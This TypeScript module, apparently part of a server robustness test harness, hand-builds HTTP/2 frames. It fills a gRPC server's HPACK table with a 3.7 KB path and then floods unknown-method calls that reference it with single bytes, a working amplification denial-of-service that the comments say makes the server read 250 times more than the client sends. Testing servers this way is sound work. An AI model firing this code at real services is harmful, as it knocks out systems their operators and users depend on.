import { flag, frame, frameType, preface } from '../../support/http2-frames.js';
import type { Outcome } from './calls.js';
import { connect, type Target } from './target.js';

/*
 * A path of 3.7 KB enters HPACK's table once; each call then names it with one byte (RFC 7541, section 6.1). The
 * client sends 250 times less than the server reads.
 */

/** Calls in flight, below the server's limit per connection. */
const atOnce = 500;

const text = (value: string): Buffer => {
  if (value.length < 127) return Buffer.concat([Buffer.of(value.length), Buffer.from(value)]);
  const rest = value.length - 127;
  return Buffer.concat([Buffer.of(127, (rest & 127) | 128, rest >> 7), Buffer.from(value)]);
};

/** A header that enters the table, with its name by its table index, or new. */
const indexed = (name: number | string, value: string): Buffer =>
  Buffer.concat([
    typeof name === 'number' ? Buffer.of(0x40 | name) : Buffer.concat([Buffer.of(0x40), text(name)]),
    text(value),
  ]);

/** `:method: POST` and `:scheme: https`, from the static table. */
const start = Buffer.of(0x83, 0x87);
const firstBlock = (path: string): Buffer =>
  Buffer.concat([
    start,
    indexed(4, path),
    indexed(1, 'localhost'),
    indexed(31, 'application/grpc'),
    indexed('te', 'trailers'),
  ]);
/** The four above, the newest with the lowest number. */
const nextBlock = Buffer.concat([start, Buffer.of(0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62)]);

/** Calls unknown methods until `bytes` are sent. */
export const unknownPaths = async (
  target: Target,
  { bytes, holdMs }: { readonly bytes: number; readonly holdMs: number },
): Promise<Outcome> => {
  const socket = await connect(target, 'grpc');
  const flags = flag.endStream | flag.endHeaders;
  let streamId = 1;
  let left = bytes;
  let inFlight = 0;
  let answered = 0;
  const send = (): void => {
    const parts: Buffer[] = [];
    for (; inFlight < atOnce && left > 0; inFlight++) {
      const block = streamId === 1 ? firstBlock(`/a.B/${'c'.repeat(3_690)}`) : nextBlock;
      const part = frame(frameType.headers, flags, streamId, block);
      parts.push(part);
      left -= part.length;
      streamId += 2;
    }
    if (parts.length > 0) socket.write(Buffer.concat(parts));
  };
  socket.write(Buffer.concat([preface, frame(frameType.settings, 0, 0)]));
  await new Promise<void>((resolve) => {
    const overdue = setTimeout(resolve, holdMs);
    socket.once('close', () => resolve());
    let buffered: Buffer = Buffer.alloc(0);
    socket.on('data', (data: Buffer) => {
      buffered = Buffer.concat([buffered, data]);
      let at = 0;
      for (; buffered.length - at >= 9; at += 9 + buffered.readUIntBE(at, 3)) {
        if (buffered.length - at < 9 + buffered.readUIntBE(at, 3)) break;
        const type = buffered.readUInt8(at + 3);
        const ended =
          (type === frameType.headers && (buffered.readUInt8(at + 4) & flag.endStream) !== 0) ||
          type === frameType.resetStream;
        if (!ended) continue;
        answered++;
        inFlight--;
      }
      buffered = buffered.subarray(at);
      send();
      if (left <= 0 && inFlight <= 0) {
        clearTimeout(overdue);
        resolve();
      }
    });
    send();
  });
  socket.destroy();
  return { answered, open: inFlight };
};
